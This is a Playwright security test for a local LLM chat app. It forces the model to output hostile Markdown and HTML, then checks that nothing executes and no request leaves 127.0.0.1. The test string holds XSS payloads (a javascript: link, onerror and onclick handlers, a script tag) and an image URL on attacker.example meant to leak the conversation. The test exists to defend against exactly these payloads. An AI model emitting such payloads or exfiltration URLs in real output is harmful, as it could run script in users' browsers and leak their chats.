import { expect, test } from '@playwright/test';
import { forceEngineOutput } from './pages/app-forced-output.ts';
import { openUnderTrustedTypes } from './support/requests.ts';
import { app, lastAnswer, send } from './support/app.ts';

// Hostile model output through the real engine: the demo model in the app's worker, forced by a
// `const` JSON-schema grammar to write the payloads, rendered by the Chat view of the production
// build under require-trusted-types-for 'script'. Nothing may execute and no request may leave
// 127.0.0.1. The grammar writes the text as a JSON string on one line (`/` escaped as `\/`, which
// Markdown's backslash escapes turn back into `/`); the <script> comes last because a browser's
// script element runs to the end of its paragraph.
const hostile =
  'Found it. ![quarterly chart](https://attacker.example/pixel.png?q=the-whole-conversation) ' +
  'A [harmless-looking link](javascript:window.__hearthPwned=1) and ' +
  "<img src=x onerror='window.__hearthPwned=2'> then " +
  "<b onclick='window.__hearthPwned=3'>bold words</b> " +
  '<script>window.__hearthPwned=4</script> end';

test('hostile output written by the real engine: nothing executes, no request leaves 127.0.0.1, under Trusted Types', async ({
  page,
}) => {
  const { requests, errors } = await openUnderTrustedTypes(page, app);
  await page.evaluate(forceEngineOutput, hostile);
  await send(page, 'Summarise the report.');
  const answer = lastAnswer(page);
  await expect(answer.locator('[data-stat="model"]')).toHaveText('hearth-demo/tiny-llama-chat', {
    timeout: 90_000,
  });
  const body = answer.locator('.markdown');
  // The model wrote the payload (the grammar's JSON string of it), and it reached the renderer.
  await expect(body).toContainText('Found it.');
  await expect(body.getByText('harmless-looking link')).toBeVisible();

  expect(await page.evaluate(() => (window as { __hearthPwned?: unknown }).__hearthPwned)).toBeUndefined();
  await expect(body.locator('script, iframe, svg, img, [onerror], [onclick], [style]')).toHaveCount(0);
  await expect(body.getByText('harmless-looking link')).not.toHaveAttribute('href', /.*/);
  await expect(body.getByText('harmless-looking link')).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(body.locator('b', { hasText: 'bold words' })).toBeVisible();
  // The remote image is a placeholder that waits for consent: the URL arrived whole and was not fetched.
  await expect(answer.getByRole('button', { name: 'Load image from attacker.example' })).toBeVisible();
  await body.getByText('harmless-looking link').click();
  await body.getByText('bold words').click();
  expect(await page.evaluate(() => (window as { __hearthPwned?: unknown }).__hearthPwned)).toBeUndefined();
  expect(page.url()).toContain(app);

  expect(await page.evaluate(() => (window as { __violations?: string[] }).__violations)).toEqual([]);
  expect(errors).toEqual([]);
  // Workers' requests included: the model, the runtime and the grammar engine all came from here.
  expect(requests.all.some((url) => url.includes('/models/hearth-demo/tiny-llama-chat/'))).toBe(true);
  expect(requests.outside).toEqual([]);
  expect(requests.all.every((url) => /^(http:\/\/127\.0\.0\.1:|blob:|data:)/.test(url))).toBe(true);
});
